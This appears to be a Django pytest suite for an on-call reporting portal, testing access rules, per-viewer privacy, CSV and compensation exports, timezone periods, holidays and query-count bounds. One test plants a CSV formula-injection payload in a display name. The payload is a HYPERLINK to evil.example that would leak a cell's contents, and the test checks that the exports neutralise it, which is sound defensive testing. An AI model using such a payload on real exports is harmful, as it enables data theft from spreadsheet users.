"""Pages and exports of the reports: access, privacy, CSV, the holiday list, the panels and a
query-count bound that does not grow with the team."""

import csv
import io
import re
from datetime import date, time, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from portal.reports.models import Holiday
from tests import factories
from tests.reports.conftest import page, utc

# About the story's period, as the form gives it: whole days in the viewer's zone (boss, ann
# and bea are in London), so Sat 30 Mar 00:00 GMT → Tue 2 Apr 00:00 BST (Mon 23:00 UTC).
PERIOD = {"period": "custom", "start": "2024-03-30", "end": "2024-04-01"}


def load_url(team, **params):
    return reverse("reports:load_review", args=[team.slug])


def get(client, user, name, team, params=None, **kwargs):
    client.force_login(user)
    return client.get(reverse(f"reports:{name}", args=[team.slug]), params or {}, **kwargs)


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


# ------------------------------------------------------------------------------------ access
@pytest.mark.parametrize(
    "name", ["load_review", "load_csv", "weekly_latest", "service_ranking", "holidays"]
)
def test_anonymous_is_sent_to_log_in(client, story, name):
    response = client.get(reverse(f"reports:{name}", args=[story.team.slug]))
    assert response.status_code == 302 and "/login/" in response["Location"]


@pytest.mark.parametrize(
    "name", ["load_review", "load_csv", "weekly_latest", "service_ranking", "holidays"]
)
def test_outsiders_are_refused_and_unknown_teams_are_404(client, story, outsider, name):
    assert get(client, outsider, name, story.team).status_code == 403
    client.force_login(outsider)
    assert client.get(reverse(f"reports:{name}", args=["nope"])).status_code == 404


def test_manager_sees_everybody_and_the_charts(client, story):
    response = get(client, story.boss, "load_review", story.team, PERIOD)
    assert response.status_code == 200
    body = response.content.decode()
    for name in ("Ann Archer", "Raj Rao", "Bea Bell", "Bo Boss"):
        assert name in body
    assert body.count("<svg") == 3
    assert 'class="chart hours-chart"' in body and 'class="chart heatmap"' in body
    assert "× an even share of on-call hours" in body and "Cannot be reached" in body
    assert "On-call hours for compensation" in body


def test_people_table_groups_its_columns_and_scrolls_in_its_own_box(client, story):
    body = get(client, story.boss, "load_review", story.team, PERIOD).content.decode()
    table = re.search(
        r'<div class="rw-scroll"[^>]*>\s*<table class="table load-table">(.*?)</table>', body, re.S
    )
    assert table, "the people table sits in its scrolling box"
    groups = re.search(r'<tr class="group">(.*?)</tr>', table.group(1), re.S).group(1)
    assert [
        (int(span), " ".join(re.sub(r"<[^>]+>", " ", text).split()))
        for span, text in re.findall(r'<th colspan="(\d+)"[^>]*>(.*?)</th>', groups, re.S)
    ] == [(5, "On-call hours (h)"), (4, "Interruptions"), (2, "Response"), (2, "Rota")]
    assert 'class="rw-scroll-hint' in body  # the cue for screens too narrow for the table


def test_member_sees_own_row_and_team_aggregates_only(client, story):
    response = get(client, story.raj, "load_review", story.team, PERIOD)
    assert response.status_code == 200
    body = response.content.decode()
    assert [p.user for p in response.context["people"]] == [story.raj]
    assert "Raj Rao" in body
    for other in ("Ann Archer", "Bea Bell", "Bo Boss"):
        assert other not in body
    assert "Team average" in body  # the hours chart shows the team, not the others
    # Raj is in Kolkata: his range is Sat 30 Mar 00:00 IST → Mon 1 Apr 24:00 IST. The team's
    # totals count ann's three pages in it, though her row is not his to see.
    assert response.context["load"].interruptions == 3
    assert response.context["people"][0].interruptions.total == 0
    assert response.context["flags"] == []  # ann's and bea's flags are not his business
    assert "compensation" not in body


def test_staff_see_everybody(client, story, staff):
    response = get(client, staff, "load_review", story.team, PERIOD)
    assert {p.user.username for p in response.context["people"]} == {"boss", "ann", "raj", "bea"}


def test_default_period_is_the_last_30_days(client, story):
    response = get(client, story.boss, "load_review", story.team)
    load = response.context["load"]
    assert load.end - load.start == timedelta(days=30)
    assert response.context["form"]["period"].value() == "30"


def test_bad_custom_range_is_400_with_a_message_by_the_field(client, story):
    response = get(
        client,
        story.boss,
        "load_review",
        story.team,
        {"period": "custom", "start": "2024-04-02", "end": "2024-03-30"},
    )
    assert response.status_code == 400
    assert "The last day cannot be before the first." in response.content.decode()
    response = get(client, story.boss, "load_review", story.team, {"period": "custom"})
    assert response.status_code == 400
    assert "Give the first day of the range." in response.content.decode()


@pytest.mark.parametrize("name", ["load_review", "service_ranking"])
def test_bad_period_is_400_with_a_message(client, story, name):
    response = get(client, story.boss, name, story.team, {"period": "5"})
    assert response.status_code == 400
    assert "Select a valid choice. 5 is not one of the available choices." in (
        response.content.decode()
    )


def test_htmx_request_gets_the_report_partial(client, story):
    response = get(client, story.boss, "load_review", story.team, PERIOD, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert response.status_code == 200
    assert body.lstrip().startswith('<div id="report">') and "<html" not in body


# ------------------------------------------------------------------------------------ exports
def test_csv_of_the_table(client, story):
    response = get(client, story.boss, "load_csv", story.team, PERIOD)
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    header, body = rows[0], {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert "sleep hours" in header and set(body) == {"boss", "ann", "raj", "bea"}
    # The range ends Mon 23:00 UTC, so ann's last stretch is Mon 08:00 → 23:00 UTC: 9 + 10 + 15.
    ann = body["ann"]
    assert ann["on-call hours"] == "34.00"
    assert ann["interruptions"] == "4" and ann["sleep-hour interruptions"] == "3"
    assert body["bea"]["hours covered for others"] == "4.00"
    assert body["bea"]["unreachable"] == "yes"


def test_csv_for_a_member_has_their_row_only(client, story):
    rows = csv_rows(get(client, story.ann, "load_csv", story.team, PERIOD))
    assert [r[1] for r in rows[1:]] == ["ann"]


def test_compensation_export(client, story):
    response = get(
        client,
        story.boss,
        "compensation_csv",
        story.team,
        {"period": "custom", "start": "2024-03-30", "end": "2024-04-02"},
    )
    rows = csv_rows(response)
    assert rows[0] == [
        "person",
        "username",
        "time zone",
        "weekday hours",
        "weekend hours",
        "public holiday hours",
        "total hours",
    ]
    # Up to Wed 3 Apr 00:00 BST (Tue 23:00 UTC): raj also holds Tue 08:00 → 23:00 UTC, that
    # is Tue 13:30 → Wed 04:30 IST (15 h, all weekday).
    by_user = {r[1]: r for r in rows[1:]}
    assert by_user["ann"][2:] == ["Europe/London", "9.00", "19.00", "15.00", "43.00"]
    assert by_user["raj"][2:] == ["Asia/Kolkata", "15.00", "10.50", "13.50", "39.00"]
    assert by_user["bea"][2:] == ["Europe/London", "0.00", "4.00", "0.00", "4.00"]
    assert "boss" not in by_user  # not on the rota


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Alice")'


@pytest.mark.parametrize("name", ["load_csv", "compensation_csv"])
def test_exports_neutralise_a_formula_in_a_display_name(client, story, name):
    """A spreadsheet must show the name as text, not run it (OWASP: a leading quote)."""
    story.ann.profile.display_name = FORMULA_NAME
    story.ann.profile.save(update_fields=["display_name"])
    rows = csv_rows(get(client, story.boss, name, story.team, PERIOD))
    ann = next(r for r in rows[1:] if r[1] == "ann")
    assert ann[0] == "'" + FORMULA_NAME
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_compensation_export_is_for_managers(client, story):
    assert get(client, story.ann, "compensation_csv", story.team, PERIOD).status_code == 403


# ------------------------------------------------------------------------------- query count
def _grow(story, n):
    """More people, another schedule, more incidents and pages: the query count must not move."""
    people = []
    for i in range(n):
        user = factories.MembershipFactory(team=story.team, user__username=f"extra{i}").user
        user.method = factories.ContactMethodFactory(user=user)
        people.append(user)
    schedule = factories.ScheduleFactory(team=story.team, name="Secondary")
    factories.LayerFactory(
        schedule=schedule,
        shift_unit="hours",
        shift_length=6,
        rotation_start=date(2024, 3, 1),
        handoff_time=time(0),
        participants=people,
    )
    factories.OverrideFactory(
        schedule=schedule, user=people[0], start=utc(2024, 3, 31), end=utc(2024, 3, 31, 6)
    )
    for i, user in enumerate(people):
        incident = factories.IncidentFactory(
            team=story.team,
            triggered_at=utc(2024, 3, 31, i),
            acknowledged_at=utc(2024, 3, 31, i, 5),
            acknowledged_by=user,
        )
        page(user, utc(2024, 3, 31, i, 1), incident)
        page(user, utc(2024, 4, 1, i, 1), incident)


def _count(client, url, params):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("name", ["load_review", "load_csv", "service_ranking"])
def test_query_count_is_bounded_and_does_not_grow(client, story, name):
    client.force_login(story.boss)
    url = reverse(f"reports:{name}", args=[story.team.slug])
    small = _count(client, url, PERIOD)
    assert small <= 20
    _grow(story, 6)
    assert _count(client, url, PERIOD) == small


def test_weekly_review_query_count_does_not_grow(client, story):
    client.force_login(story.boss)
    url = reverse("reports:weekly_review", args=[story.team.slug, 2024, 13])
    small = _count(client, url, {})
    assert small <= 30
    _grow(story, 6)
    assert _count(client, url, {}) == small


# ------------------------------------------------------------------------------ weekly pages
def section_items(body, section_id, tag="li"):
    """The text of each ``<li>`` (or ``<tr>``) in the page's ``<section id=…>``, tags
    stripped and spaces collapsed."""
    section = re.search(rf'<section[^>]*id="{section_id}"[^>]*>(.*?)</section>', body, re.S)
    assert section, f"no section {section_id}"
    items = re.findall(rf"<{tag}[^>]*>(.*?)</{tag}>", section.group(1), re.S)
    return [" ".join(re.sub(r"<[^>]+>", " ", item).split()) for item in items]


def test_weekly_review_page(client, story):
    from tests.reports.test_feedback import _postmortems_due

    sev1, sev2 = _postmortems_due(story)
    client.force_login(story.boss)
    response = client.get(reverse("reports:weekly_review", args=[story.team.slug, 2024, 13]))
    body = response.content.decode()
    assert response.status_code == 200
    assert "<strong>Bea Bell</strong>: Cannot be reached" in body
    assert "HighLatency" in body and "Tune HighLatency" in body
    # Who handed over to whom, in the viewer's time (boss is in London; BST from Sunday).
    assert section_items(body, "handovers") == [
        "Sat 30 Mar 09:00 · Primary : nobody → Ann Archer",
        "Sat 30 Mar 18:00 · Primary : Ann Archer → Bea Bell",
        "Sat 30 Mar 22:00 · Primary : Bea Bell → Ann Archer",
        "Sun 31 Mar 09:00 · Primary : Ann Archer → Raj Rao",
    ]
    # Postmortems due (resolved SEV1/2 without one), then the open postmortem of I1.
    follow_up = section_items(body, "follow-up")
    assert follow_up[:2] == [
        f"#{sev1.pk} {sev1.title} resolved Wed 20 Mar, no postmortem yet",
        f"#{sev2.pk} {sev2.title} resolved Tue 19 Mar, no postmortem yet",
    ]
    assert sum("no postmortem yet" in item for item in follow_up) == 2
    assert client.get(reverse("reports:weekly_review", args=["ops", 2024, 54])).status_code == 404


def test_weekly_review_page_shows_a_member_only_their_own_row(client, story):
    url = reverse("reports:weekly_review", args=[story.team.slug, 2024, 13])
    client.force_login(story.ann)
    response = client.get(url)
    body = response.content.decode()
    assert [p.user for p in response.context["people"]] == [story.ann]
    rows = section_items(body, "interruptions", tag="tr")
    # The unit is in the heading, so the numbers stay narrow enough for a phone.
    assert rows[0] == "Person Pages Off-hours Sleep On call (h)"
    assert rows[1:] == ["Ann Archer 2 2 2 19.0"]  # Sat 23:00 and Sun 03:30, asleep
    assert "Interruptions (yours)" in body
    # Other people's flags are not hers to see (Bea cannot be reached).
    assert all(name == "Ann Archer" for name, _flag in response.context["flags"])
    assert "Cannot be reached" not in body
    # The week's totals are the team's.
    assert response.context["review"].load.interruptions == 3


@pytest.mark.parametrize("who", ["boss", "staff"])
def test_weekly_review_page_shows_managers_and_staff_everybody(client, story, staff, who):
    client.force_login(staff if who == "staff" else story.boss)
    response = client.get(reverse("reports:weekly_review", args=[story.team.slug, 2024, 13]))
    rows = section_items(response.content.decode(), "interruptions", tag="tr")
    assert sorted(row.rsplit(" ", 4)[0] for row in rows[1:]) == [
        "Ann Archer",
        "Bea Bell",
        "Raj Rao",
    ]


def test_weekly_latest_redirects_to_last_week(client, story):
    response = get(client, story.ann, "weekly_latest", story.team)
    assert response.status_code == 302 and "/reports/teams/ops/weekly/" in response["Location"]


# --------------------------------------------------------------------------------- holidays
def test_manager_adds_and_removes_holidays(client, story):
    client.force_login(story.boss)
    url = reverse("reports:holidays", args=[story.team.slug])
    response = client.post(url, {"date": "2024-12-25", "name": "Christmas Day"})
    assert response.status_code == 302
    holiday = Holiday.objects.get(team=story.team, date=date(2024, 12, 25))
    response = client.post(url, {"date": "2024-12-25", "name": "Again"})
    assert response.status_code == 400
    assert "already a holiday" in response.content.decode()
    assert Holiday.objects.filter(team=story.team).count() == 2
    response = client.post(url, {"date": "", "name": "No date"})
    assert response.status_code == 400
    delete = reverse("reports:holiday_delete", args=[story.team.slug, holiday.pk])
    assert client.post(delete).status_code == 302
    assert not Holiday.objects.filter(pk=holiday.pk).exists()


def test_members_see_but_cannot_change_holidays(client, story):
    client.force_login(story.ann)
    url = reverse("reports:holidays", args=[story.team.slug])
    assert "Easter Monday" in client.get(url).content.decode()
    assert client.post(url, {"date": "2024-12-25", "name": "X"}).status_code == 403
    holiday = Holiday.objects.get(team=story.team)
    delete = reverse("reports:holiday_delete", args=[story.team.slug, holiday.pk])
    assert client.post(delete).status_code == 403
    assert Holiday.objects.filter(pk=holiday.pk).exists()


# ----------------------------------------------------------------------------------- panels
def test_service_page_shows_feedback_to_the_owning_team_only(client, story, outsider):
    url = story.api.get_absolute_url()
    client.force_login(story.ann)
    body = client.get(url).content.decode()
    assert "Operational feedback" in body and "Tune HighLatency" in body
    client.force_login(outsider)
    assert "Operational feedback" not in client.get(url).content.decode()


def test_team_page_links_to_the_reports(client, story, outsider):
    client.force_login(story.boss)
    body = client.get(story.team.get_absolute_url()).content.decode()
    assert reverse("reports:load_review", args=[story.team.slug]) in body
    client.force_login(outsider)
    body = client.get(story.team.get_absolute_url()).content.decode()
    assert reverse("reports:load_review", args=[story.team.slug]) not in body


# ------------------------------------------------------------------- service feedback period
def feedback_panel(response):
    return next(p for p in response.context["panels"] if p.title == "Operational feedback")


def _recent_api_incidents(story):
    """Incidents of the API service 3, 20 and 60 days ago (the story itself is long past)."""
    now = timezone.now()
    for days in (3, 20, 60):
        factories.IncidentFactory(
            team=story.team, triggered_at=now - timedelta(days=days)
        ).services.set([story.api])


@pytest.mark.parametrize(
    ("params", "days", "incidents"),
    [({}, 30, 2), ({"feedback_period": "7"}, 7, 1), ({"feedback_period": "90"}, 90, 3)],
)
def test_service_feedback_panel_has_a_period_choice(client, story, params, days, incidents):
    _recent_api_incidents(story)
    client.force_login(story.ann)
    response = client.get(story.api.get_absolute_url(), params)
    assert response.status_code == 200
    ctx = feedback_panel(response).context
    assert ctx["end"] - ctx["start"] == timedelta(days=days)
    assert ctx["noise"].incidents == incidents
    body = response.content.decode()
    assert f"Last {days} days:" in body
    current = re.findall(r'aria-current="true"\s+href="([^"]+)"', body)
    assert current == [f"/services/api/?feedback_period={days}#service-feedback"]
    # Each choice is a plain link to the service page and an htmx swap of the panel alone.
    fragment = reverse("reports:service_feedback", args=["api"])
    for choice in ("7", "30", "90"):
        assert f'href="/services/api/?feedback_period={choice}#service-feedback"' in body
        assert f'hx-get="{fragment}?feedback_period={choice}"' in body
    assert body.count('hx-target="#service-feedback"') == 3


def test_service_feedback_fragment_swaps_the_panel(client, story):
    _recent_api_incidents(story)
    client.force_login(story.ann)
    url = reverse("reports:service_feedback", args=["api"])
    response = client.get(url, {"feedback_period": "7"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    body = response.content.decode()
    assert body.lstrip().startswith('<div id="service-feedback">') and "<html" not in body
    assert "<dt>Incidents</dt><dd>1</dd>" in body
    assert "Last 7 days:" in body and "Tune HighLatency" in body
    # The ranking link keeps the period.
    assert f"{reverse('reports:service_ranking', args=['ops'])}?period=7" in body


def test_service_feedback_fragment_access(client, story, outsider, staff):
    url = reverse("reports:service_feedback", args=["api"])
    response = client.get(url)
    assert response.status_code == 302 and "/login/" in response["Location"]
    client.force_login(outsider)
    assert client.get(url).status_code == 403
    assert client.get(reverse("reports:service_feedback", args=["nope"])).status_code == 404
    client.force_login(staff)
    assert client.get(url).status_code == 200


@pytest.mark.parametrize("bad", ["5", "custom", "30days", "-7"])
def test_service_feedback_bad_period_is_refused_with_a_message(client, story, bad):
    client.force_login(story.ann)
    # The panel's own view answers 400, as the ranking page does (htmx swaps a 400 in).
    url = reverse("reports:service_feedback", args=["api"])
    response = client.get(url, {"feedback_period": bad}, HTTP_HX_REQUEST="true")
    assert response.status_code == 400
    body = response.content.decode()
    assert "Choose the last 7, 30 or 90 days." in body and "<dt>Alerts</dt>" not in body
    # On the service page the panel says the same; the rest of the page still renders.
    response = client.get(story.api.get_absolute_url(), {"feedback_period": bad})
    body = response.content.decode()
    assert feedback_panel(response).context["noise"] is None
    assert "Choose the last 7, 30 or 90 days." in body and "<dt>Alerts</dt>" not in body
    assert "Depends on" in body


def _grow_service(story, n, prefix):
    """``n`` of everything the API service's feedback reads, all within the last 7 days:
    incidents, alerts under more names, pages to more people (with profiles), open action items
    with more owners."""
    now = timezone.now()
    for i in range(n):
        user = factories.MembershipFactory(team=story.team, user__username=f"{prefix}{i}").user
        user.method = factories.ContactMethodFactory(user=user)
        incident = factories.IncidentFactory(
            team=story.team,
            triggered_at=now - timedelta(hours=i + 1),
            status="resolved",
            acknowledged_at=now - timedelta(hours=i + 1) + timedelta(minutes=5),
            acknowledged_by=user,
            resolved_at=now - timedelta(hours=i),
            actionable=bool(i % 2),
        )
        incident.services.set([story.api, story.db])
        for name in (f"Alert{i}", "Shared"):
            factories.AlertFactory(
                incident=incident, labels={"alertname": name}, received_at=incident.triggered_at
            )
        page(user, incident.triggered_at + timedelta(minutes=1), incident)
        page(story.ann, incident.triggered_at + timedelta(minutes=2), incident)
        postmortem = factories.PostmortemFactory(incident=incident)
        for _ in range(3):
            factories.ActionItemFactory(postmortem=postmortem, owner=user, service=story.api)
    Holiday.objects.get_or_create(
        team=story.team, date=now.date() - timedelta(days=2), defaults={"name": "Recent"}
    )


@pytest.mark.parametrize("params", [{}, {"feedback_period": "7"}, {"feedback_period": "90"}])
def test_service_feedback_query_count_is_bounded_and_does_not_grow(client, story, params):
    client.force_login(story.ann)
    fragment = reverse("reports:service_feedback", args=["api"])
    service_page = story.api.get_absolute_url()
    _grow_service(story, 1, "one")
    small_fragment = _count(client, fragment, params)
    small_page = _count(client, service_page, params)
    assert small_fragment <= 15
    _grow_service(story, 12, "dev")  # with 13 people and 40 open items, more than it lists
    assert _count(client, fragment, params) == small_fragment
    assert _count(client, service_page, params) == small_page
    noise = feedback_panel(client.get(service_page, params)).context["noise"]
    assert noise.incidents == 13 and noise.open_items_count == 40 and len(noise.open_items) == 10
    assert noise.alerts == 26 and len(noise.noisiest) == 5
